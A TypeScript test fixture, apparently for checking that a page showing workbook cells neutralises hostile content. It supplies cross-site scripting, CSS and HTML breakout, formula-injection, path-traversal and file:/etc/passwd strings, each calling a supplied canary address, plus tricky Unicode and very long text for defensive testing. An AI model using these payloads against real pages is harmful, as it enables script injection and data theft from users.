import type { SampleText } from "./rewritten-sample.ts";

/** What a cell may hold to do harm to the page that shows it, by what it tries. A visit to the address would be noticed. */
export function hostileTexts(address: string, file: string): Readonly<Record<string, string>> {
  return {
    script: `<script>fetch("${address}/script")</script>`,
    "image that fails": `<img src=x onerror="fetch('${address}/error')">`,
    "drawing that loads": `<svg onload="fetch('${address}/load')"><image href="${address}/image"/></svg>`,
    frame: `<iframe src="${file}"></iframe>`,
    "frame with a document": `<iframe srcdoc="<img src='${address}/srcdoc'>"></iframe>`,
    "end of a style": `</style><style>body{background:url(${address}/style)}`,
    import: `<style>@import "${address}/import";</style>`,
    "css value": `x;background:url(${address}/css)}*{background:url(${address}/all)`,
    refresh: `<meta http-equiv="refresh" content="0;url=${address}/refresh">`,
    base: `<base href="${address}/">`,
    preconnect: `<link rel="preconnect" href="${address}"><link rel=stylesheet href=${address}/link>`,
    attribute: `" style="background:url(${address}/quote)" x='`,
    "end of a comment": `--><img src="${address}/comment"><!--`,
    "javascript link": `<a href="javascript:fetch('${address}/click')">x</a>`,
    "file by another spelling": `<embed src="FiLe:${file.slice("file:".length)}"> view-source:${file} file:/etc/passwd`,
    value: "{{constructor.constructor}} {{{title}}} {{> band}} {{#each this}}",
    "ends of a chart": `]]></desc></title><script>fetch("${address}/chart")</script>`,
    formula: `=HYPERLINK("${address}/formula","x")`,
    path: "..\\../etc/passwd%00.pdf",
    "right to left": "甲\u202E乙丙\u2066丁戊",
    "zero width": "零\u200B宽\u200D度\uFEFF字",
    "half a character": "半_xD800_字_xDC00_末",
    control: "控_x001B_[31m制_x0007_",
    "rare characters": "𠮷野家 龍 Škoda",
    emoji: "客户👩‍👩‍👧‍👦满意🎉",
  };
}

/** Longer than any line, and as long as a cell can be. */
export const LONG_TEXTS = {
  word: `${"Donaudampfschifffahrt".repeat(477).slice(0, 9_996)}Ende`,
  cell: `${"这一格写满了。".repeat(4_681).slice(0, 32_765)}完。`,
};

/** The first text of these columns is a long one. */
const LONG_IN: Readonly<Record<string, string>> = {
  "opportunities.nextStep": LONG_TEXTS.word,
  "needs.response": LONG_TEXTS.cell,
};

/** A hostile text for each text of a workbook; its number keeps names apart. */
export function hostileExchange(texts: readonly string[]): (one: SampleText) => string {
  const long = new Map(Object.entries(LONG_IN));
  let given = 0;
  return ({ table, column }) => {
    const place = `${table}.${column}`;
    const text = long.get(place) ?? `${texts[given++ % texts.length] ?? ""} ${given}`;
    long.delete(place);
    return text;
  };
}
